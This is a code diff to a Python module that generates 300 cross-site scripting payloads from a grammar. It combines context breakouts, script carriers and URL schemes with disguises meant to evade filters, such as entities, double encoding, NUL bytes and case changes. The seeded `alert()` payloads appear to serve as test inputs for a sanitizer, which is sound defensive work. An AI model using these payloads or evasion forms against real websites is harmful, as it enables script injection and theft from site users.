@@ -1,4 +1,8 @@
-"""Three hundred ways to smuggle a script, made by a grammar: where it breaks out, what carries it, how it is disguised."""
+"""Three hundred texts that try to run a script, from a grammar.
+
+A text leaves its context (a breakout), has the script in some element (a carrier), and may be
+written so that a filter misses it (a disguise).
+"""
 
 import itertools
 import random
@@ -17,7 +21,7 @@ BREAKOUTS = (
     "\\';",
     "`-",
 )
-# {run} is what would run, {scheme} a scheme that runs what follows it.
+# {run} is the script, {scheme} a URL scheme that runs what follows it.
 CARRIERS = (
     "<script>{run}</script>",
     "<script src=data:,{run}></script>",
@@ -72,8 +76,8 @@ SCHEMES = (
 DISGUISES = ("plain", "upper", "slashes", "entities", "twice", "nul", "unclosed", "newlines")
 
 
-def disguised(text: str, how: str) -> str:
-    """Return a payload as a filter might not know it."""
+def disguise(text: str, disguise_as: str) -> str:
+    """Return a payload in a form that a filter may miss. `disguise_as` is one of DISGUISES."""
     changed = {
         "plain": text,
         "upper": text.replace("<s", "<S").replace(" on", " ON").replace("img", "iMg"),
@@ -84,12 +88,12 @@ def disguised(text: str, how: str) -> str:
         "unclosed": text.rstrip(">"),
         "newlines": text.replace(" ", "\n\t"),
     }
-    return changed[how]
+    return changed[disguise_as]
 
 
-def payloads(count: int = 300) -> list[str]:
-    """Return so many payloads, the same ones each time, in which every part of the grammar occurs."""
-    chance = random.Random(5)  # noqa: S311  the same ones each time
+def list_payloads(count: int = 300) -> list[str]:
+    """Return `count` payloads in which every part of the grammar occurs, always the same ones."""
+    chance = random.Random(5)  # noqa: S311  the seed makes them the same ones
     every = list(itertools.product(BREAKOUTS, CARRIERS, SCHEMES, DISGUISES))
     chosen = {
         (
@@ -101,14 +105,14 @@ def payloads(count: int = 300) -> list[str]:
         for n in range(3 * len(CARRIERS))
     }
     chosen |= set(chance.sample(every, 2 * count))
-    found: dict[str, None] = {}
-    for number, (out, carrier, scheme, how) in enumerate(
+    distinct: dict[str, None] = {}
+    for number, (out, carrier, scheme, disguise_as) in enumerate(
         sorted(chosen, key=lambda _: chance.random())
     ):
         run = f"alert({number})"
-        found.setdefault(
-            disguised(out + carrier.format(run=run, scheme=scheme.format(run=run)), how)
+        distinct.setdefault(
+            disguise(out + carrier.format(run=run, scheme=scheme.format(run=run)), disguise_as)
         )
-    needed = [text for text in found if text][:count]
+    needed = [text for text in distinct if text][:count]
     assert len(needed) == count
     return needed
